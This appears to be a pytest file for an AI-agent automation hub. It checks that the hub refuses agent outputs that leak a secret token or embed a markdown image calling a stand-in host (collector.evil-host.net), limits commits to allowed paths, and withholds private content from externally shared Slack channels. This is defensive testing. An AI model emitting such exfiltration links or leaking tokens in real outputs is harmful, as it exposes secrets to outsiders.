"""Outputs through a whole hub: refused and done better, shown only, committed by the hub; as API and command show it."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from adversaries import changed
from command_line import triggerhub
from crash.stage import Stage, stage
from crash.webhooks import CHANNEL, github_comment, slack_words

from hub.demo.scenarios import DEMO_SECRETS

RULE = "github-mention-reply"
OURS = DEMO_SECRETS["JIRA_TOKEN"]


def edited(scenario: str, outputs: list[Any], **rule: Any) -> Callable[[dict[str, Any]], None]:
    """The demo's rule for mentions, with other outputs and an agent that plays `scenario`."""

    def edit(config: dict[str, Any]) -> None:
        config["rules"] = [one for one in config["rules"] if one["name"] == RULE]
        prompt = f"Answer. [sandbox: {scenario}]"
        config["rules"][0] |= {"prompt": prompt, "outputs": outputs, **rule}

    return edit


async def played(running: Stage) -> dict[str, Any]:
    """Send a mention, and return the run as the API shows it."""
    run = await running.ended(await running.accepted(github_comment(31, 91, "@triggerhub why?")))
    answer = await running.http.get(f"{running.hub.url}/api/v1/runs/{run['id']}")
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    assert found["status"] == "succeeded", found["error"]
    return found


async def shown(running: Stage, run_id: str, folder: Path) -> str:
    """What `runs show` prints."""
    command = ("runs", "show", run_id, "--url", running.hub.url)
    done = await asyncio.to_thread(triggerhub, *command, folder=folder)
    assert done.code == 0, done.err
    return done.out


def outcomes(run: dict[str, Any], output: str = "comment") -> list[tuple[str, str | None]]:
    return [(one["status"], one["clause"]) for one in run["results"] if one["output"] == output]


@pytest.mark.parametrize(
    ("leak", "clause"), [("![](https://collector.evil-host.net/?q=x)", "links"), (OURS, "secrets")]
)
async def test_refused_and_done_better(tmp_path: Path, leak: str, clause: str) -> None:
    scenario = "scenario=tempted" if clause == "links" else f"scenario=tempted leak={leak}"
    async with stage(tmp_path, edit=edited(scenario, [{"comment": {"to": "origin", "max": 1}}])) as running:
        run = await played(running)
        assert outcomes(run) == [("refused", clause), ("posted", None)]
        (made,) = running.made(run["id"])
        assert leak not in made.text
        assert "evil-host" not in made.text
        text = await shown(running, run["id"], tmp_path)
        assert f": refused ({clause}): " in text
        assert OURS not in text
        assert OURS not in str(run)


async def test_a_staged_rule_shows_what_would_be_posted_and_posts_nothing(tmp_path: Path) -> None:
    edit = edited("scenario=custom_tools", [{"comment": {"to": "origin"}}], staged=True)
    async with stage(tmp_path, edit=edit) as running:
        run = await played(running)
        assert outcomes(run) == [("staged", None)]
        (result,) = run["results"]
        assert result["shown"]["target"] == {"to": "origin"}
        assert result["shown"]["text"]
        assert result["url"] is None
        assert running.made(run["id"]) == []
        text = await shown(running, run["id"], tmp_path)
        assert ": staged" in text
        assert result["shown"]["text"].splitlines()[0] in text


async def test_the_hub_commits_what_the_agent_may_not_push(tmp_path: Path) -> None:
    target = {
        "connection": "acme-github",
        "repository": "acme/checkout",
        "source": "patch",
        "paths": {"allow": ["docs/**"]},
    }
    repository = {"connection": "acme-github", "name": "acme/checkout", "access": "read"}
    scenario = "scenario=patch path=src/total.py"
    edit = edited(scenario, [{"open_pull_request": target}], repository=repository)
    async with stage(tmp_path, edit=edit) as running:
        run = await played(running)
        assert outcomes(run, "open_pull_request") == [("refused", "paths"), ("posted", None)]
        repo = running.sandbox.world.github.repos["acme/checkout"]
        (branch,) = [name for name in repo.branches if name.startswith("triggerhub/")]
        head = repo.commits[repo.branches[branch]]
        assert set(head.files) == {"docs/found.md"}
        assert head.parent == repo.branches["main"]
        pulls = [issue for issue in repo.issues.values() if issue.pull is not None]
        assert [pull.pull.head for pull in pulls if pull.pull is not None] == [branch]


@pytest.mark.parametrize("allowed", [None, "public"])
async def test_what_is_ours_is_not_said_where_another_company_reads(
    tmp_path: Path, allowed: str | None
) -> None:
    """The channel was seen to be shared through Slack Connect; the issue is in a private repository."""
    message = {"post_message": {"connection": "acme-slack", "channel": CHANNEL}}
    edit = edited("scenario=custom_tools", [message], allow_publish_to=allowed)
    async with stage(tmp_path, edit=edit) as running:
        shared = changed(
            slack_words("1795400070.000100", "Hello there"),
            lambda body: body.update(is_ext_shared_channel=True),
        )
        await running.routed(await running.accepted(shared))
        private = changed(
            github_comment(31, 91, "@triggerhub why?"),
            lambda body: body["repository"].update(private=True, visibility="private"),
        )
        run = await running.ended(await running.accepted(private))
        answer = await running.http.get(f"{running.hub.url}/api/v1/runs/{run['id']}")
        found = outcomes(answer.json(), "post_message")
        assert found[0] == (("refused", "readers") if allowed is None else ("posted", None)), found
